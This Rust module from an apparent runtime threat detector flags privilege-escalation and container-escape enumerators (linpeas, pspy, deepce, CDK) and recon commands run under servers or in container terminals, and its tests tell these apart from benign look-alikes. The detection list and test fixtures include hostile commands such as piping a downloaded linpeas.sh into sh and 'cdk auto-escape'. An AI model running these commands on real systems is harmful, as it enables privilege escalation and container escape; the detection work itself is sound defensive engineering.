//! Discovery commands (whoami, id, uname -a, hostname, reading /etc/passwd): harmless alone,
//! meaningful with a terminal in a container or under a server process (hands-on-keyboard or
//! a web shell). Entry-point scripts printing the user are not reported.

use super::needles::Needles;
use super::{args, piped_into, Ctx, Findings};
use crate::analysis::shell::SimpleCommand;
use crate::knowledge::{signals, ToolClass};

/// Privilege-escalation and container-escape enumeration scripts and binaries.
const ENUMERATORS: &[&str] = &[
    "linpeas",
    "linenum",
    "lse.sh",
    "linux-exploit-suggester",
    "les.sh",
    "pspy",
    "deepce",
    "unix-privesc-check",
    "linuxprivchecker",
    "peirates",
    "kube-hunter",
    "amicontained",
    "cdk",
    "botb",
];

/// First bytes of [`ENUMERATORS`] (all lower case).
static ENUMERATOR_FIRST: [bool; 128] = {
    let mut first = [false; 128];
    let mut i = 0;
    while i < ENUMERATORS.len() {
        let b = ENUMERATORS[i].as_bytes()[0];
        assert!(!b.is_ascii_uppercase(), "enumerator names are lower case");
        first[(b & 127) as usize] = true;
        i += 1;
    }
    first
};

pub fn wants(cx: &Ctx) -> bool {
    static ENUMERATOR_NAMES: Needles = Needles::ignore_ascii_case(ENUMERATORS);
    cx.under_server() || (cx.tty && cx.in_container) || cx.words_may_hold(&ENUMERATOR_NAMES)
}

/// The enumerator a file name or URL names: the exact tool name (case ignored), then nothing,
/// a script extension, or the word size or platform of a release build (`pspy64`, `pspy32s`,
/// `linpeas_linux_amd64`, `cdk_linux_amd64`, `amicontained-linux-amd64`, `linpeas_fat.sh`).
/// Not a bare prefix: `cdk8s`, `cdktf` and `cdk.json` are not CDK.
fn enumerator(word: &str) -> Option<&'static str> {
    let word = word.split(['?', '#']).next().unwrap_or(word);
    let name = super::basename(word);
    // Most names start with a letter no enumerator starts with.
    let first = *name.as_bytes().first()?;
    if !ENUMERATOR_FIRST[usize::from(first.to_ascii_lowercase() & 127)] {
        return None;
    }
    ENUMERATORS.iter().copied().find(|e| {
        name.get(..e.len())
            .is_some_and(|h| h.eq_ignore_ascii_case(e))
            && release_suffix(&name[e.len()..])
    })
}

/// What may follow an enumerator's name (see [`enumerator`]).
fn release_suffix(rest: &str) -> bool {
    let rest = [".sh", ".py", ".pl"]
        .iter()
        .find_map(|x| rest.strip_suffix(x))
        .unwrap_or(rest);
    // `-2`: linux-exploit-suggester-2.pl.
    matches!(rest, "" | "-2" | "32" | "64" | "32s" | "64s")
        || ["_linux", "-linux", "_darwin", "-darwin", "_fat"]
            .iter()
            .any(|p| rest.starts_with(p))
}

/// Commands of the AWS CDK CLI (aws-cdk README). The escape toolkit CDK takes `evaluate`,
/// `run`, `auto-escape` or one of its tools (`ps`, `nc`, `kcurl`...; cdk-team/CDK README).
const AWS_CDK_COMMANDS: &str = "init list ls synth synthesize diff deploy rollback import \
    migrate watch destroy bootstrap gc doctor docs doc acknowledge ack notices context metadata";

/// The enumerator a command runs: its program, or the script a shell or interpreter runs
/// (`sh linpeas.sh`, `python3 linuxprivchecker.py`). A file another program only reads
/// (`cat linpeas.sh`, `vim cdk.json`) runs nothing.
fn runs_enumerator<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
    let a = &c.argv;
    let (at, e) = match enumerator(a.first()?) {
        Some(e) => (0, e),
        None => {
            if !matches!(c.class, Some(ToolClass::Shell | ToolClass::Interpreter)) {
                return None;
            }
            // The first operand; a `-c` script text (it has spaces) is parsed into its own
            // commands.
            let at = (1..a.len()).find(|&i| !a[i].starts_with('-'))?;
            if a[at].contains(char::is_whitespace) {
                return None;
            }
            (at, enumerator(&a[at])?)
        }
    };
    // `cdk deploy` is the AWS CDK CLI, not the escape toolkit.
    let aws_cdk = e == "cdk"
        && a[at + 1..]
            .iter()
            .find(|x| !x.starts_with('-'))
            .is_some_and(|x| AWS_CDK_COMMANDS.split_whitespace().any(|w| w == x));
    (!aws_cdk).then_some(&*a[at])
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let cmds = cx.commands();
    for (i, c) in cmds.iter().enumerate() {
        if let Some(word) = runs_enumerator(c) {
            out.hit(
                signals::ENUMERATION_TOOL,
                format!("{} runs {word}", c.program()),
            );
        }
        // The usual one-liner: `curl -L .../linpeas.sh | sh`.
        if c.class == Some(ToolClass::Downloader) {
            if let (Some(url), Some(next)) = (
                args(c).iter().find(|a| enumerator(a).is_some()),
                piped_into(cmds, i)
                    .filter(|n| matches!(n.class, Some(ToolClass::Shell | ToolClass::Interpreter))),
            ) {
                out.hit(
                    signals::ENUMERATION_TOOL,
                    format!("{} pipes {url} into {}", c.program(), next.program()),
                );
            }
        }
    }
    if !(cx.under_server() || (cx.tty && cx.in_container)) {
        return;
    }
    for c in cx.commands() {
        let p = c.program();
        let recon = c.class == Some(ToolClass::Recon)
            || (matches!(p, "cat" | "head" | "less")
                && args(c).iter().any(|a| {
                    a == "/etc/passwd"
                        || a == "/etc/group"
                        || a == "/proc/version"
                        || a == "/etc/os-release"
                }))
            || matches!(p, "ifconfig" | "netstat" | "ss" | "ps" | "lsb_release");
        if recon {
            if cx.tty && cx.in_container {
                out.hit(
                    signals::INTERACTIVE_RECON_IN_CONTAINER,
                    format!("{} typed in a terminal in a container", super::join(c)),
                );
            } else {
                out.hit(
                    signals::RECON_COMMAND,
                    format!("{} under a server process", super::join(c)),
                );
            }
        }
    }
}

/// Web, application or database server comm (node counts as an application server here).
pub fn lineage_server(comm: &str, class: Option<ToolClass>) -> bool {
    matches!(
        class,
        Some(ToolClass::WebServer | ToolClass::AppServer | ToolClass::DbServer)
    ) || (matches!(comm, "node" | "nodejs") && class == Some(ToolClass::Interpreter))
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    #[test]
    fn fires_under_web_server() {
        let (ids, _) = run_with(
            detect,
            &facts(&["id"]),
            &Lineage::from_comms(["sh", "php-fpm7.4"]),
        );
        assert_eq!(ids, ["recon_command"]);
    }

    /// A person typing in a terminal inside a container (`docker exec -it`).
    fn typed_in_container(argv: &[&str]) -> Vec<&'static str> {
        let mut f = in_container(facts(argv));
        f.tty = Some(34816);
        run_with(detect, &f, &Lineage::from_comms(["bash", "runc"])).0
    }

    fn under(comms: &[&str], argv: &[&str]) -> Vec<&'static str> {
        run_with(
            detect,
            &facts(argv),
            &Lineage::from_comms(comms.iter().copied()),
        )
        .0
    }

    #[test]
    fn fires_on_enumerators_anywhere() {
        // No terminal, no container, no server needed: the tool itself is the signal.
        assert_eq!(run(detect, &["sh", "linpeas.sh"]), ["enumeration_tool"]);
        // Release builds carry the architecture; case is ignored.
        assert_eq!(run(detect, &["/tmp/pspy64", "-pf"]), ["enumeration_tool"]);
        assert_eq!(
            run(
                detect,
                &["bash", "-c", "chmod +x LinEnum.sh; ./LinEnum.sh -t"]
            ),
            ["enumeration_tool"]
        );
        // Everyday scripts sharing a first letter or a word with an enumerator.
        assert!(run(detect, &["bash", "linux-setup.sh"]).is_empty());
        assert!(run(detect, &["sh", "./deploy.sh"]).is_empty());
        assert!(run(detect, &["less", "/var/log/syslog"]).is_empty());
    }

    #[test]
    fn matches_enumerator_names_exactly() {
        // Tools whose names start like an enumerator's, files only read or fetched, and the
        // AWS CDK CLI (run directly, or by node).
        for argv in [
            &["cdk8s", "synth"][..],
            &["cdktf", "deploy"],
            &["cat", "cdk.json"],
            &["vim", "linpeas.sh"],
            &[
                "wget",
                "https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh",
            ],
            &["cdk", "deploy", "--all"],
            &["cdk", "synth"],
            &["node", "/usr/lib/node_modules/aws-cdk/bin/cdk", "bootstrap"],
        ] {
            assert!(run(detect, argv).is_empty(), "{argv:?}");
        }
        // The escape toolkit, release builds, and scripts with their extensions.
        for argv in [
            &["./cdk", "evaluate", "--full"][..],
            &["/tmp/cdk_linux_amd64", "run", "--list"],
            &["cdk", "auto-escape", "id"],
            &["python3", "linuxprivchecker.py"],
            &["bash", "-x", "/dev/shm/deepce.sh"],
            &["/tmp/pspy32s"],
        ] {
            assert_eq!(run(detect, argv), ["enumeration_tool"], "{argv:?}");
        }
    }

    #[test]
    fn fires_on_an_enumerator_piped_from_a_download() {
        let (ids, _) = run_with(
            detect,
            &facts(&[
                "sh",
                "-c",
                "curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh",
            ]),
            &Lineage::default(),
        );
        assert_eq!(ids, ["enumeration_tool"]);
        // Saved, not run; and another installer piped into a shell (download_exec's).
        assert!(run(
            detect,
            &[
                "sh",
                "-c",
                "curl -sLo /tmp/l.sh https://x.example/linpeas.sh"
            ]
        )
        .is_empty());
        assert!(run(
            detect,
            &["sh", "-c", "curl -fsSL https://get.docker.com | sh"]
        )
        .is_empty());
    }

    #[test]
    fn fires_on_recon_under_a_server() {
        for argv in [
            &["cat", "/etc/passwd"][..],
            &["uname", "-a"],
            &["sh", "-c", "ps aux; netstat -tlnp"],
        ] {
            assert_eq!(under(&["sh", "nginx"], argv), ["recon_command"], "{argv:?}");
        }
        // node counts as an application server; the shell between is skipped.
        assert_eq!(under(&["sh", "node"], &["whoami"]), ["recon_command"]);
        // What a server's children do every day.
        assert!(under(&["sh", "nginx"], &["cat", "/etc/nginx/nginx.conf"]).is_empty());
        assert!(under(&["sh", "php-fpm"], &["convert", "in.png", "out.jpg"]).is_empty());
    }

    #[test]
    fn quiet_without_a_server_or_a_container_terminal() {
        // A cron job and an admin's ssh session run the same commands.
        assert!(under(&["sh", "cron"], &["id", "-un"]).is_empty());
        let mut f = facts(&["id"]);
        f.tty = Some(34816);
        let ssh = Lineage::from_comms(["bash", "sshd"]);
        assert!(run_with(detect, &f, &ssh).0.is_empty());
    }

    #[test]
    fn fires_on_recon_typed_in_a_container() {
        for argv in [
            &["id"][..],
            &["cat", "/etc/os-release"],
            &["ss", "-tlnp"],
            &["lsb_release", "-a"],
        ] {
            assert_eq!(
                typed_in_container(argv),
                ["interactive_recon_in_container"],
                "{argv:?}"
            );
        }
        assert!(typed_in_container(&["ls", "-la", "/app"]).is_empty());
        assert!(typed_in_container(&["cat", "/app/config.yaml"]).is_empty());
        // Typed in a container under a server: the terminal is the stronger reading.
        let mut f = in_container(facts(&["whoami"]));
        f.tty = Some(34816);
        let (ids, _) = run_with(detect, &f, &Lineage::from_comms(["sh", "node"]));
        assert_eq!(ids, ["interactive_recon_in_container"]);
    }

    #[test]
    fn quiet_in_entrypoints() {
        let f = in_container(facts(&["id", "-u"]));
        assert!(
            run_with(detect, &f, &Lineage::from_comms(["docker-entrypoi"]))
                .0
                .is_empty()
        );
    }
}
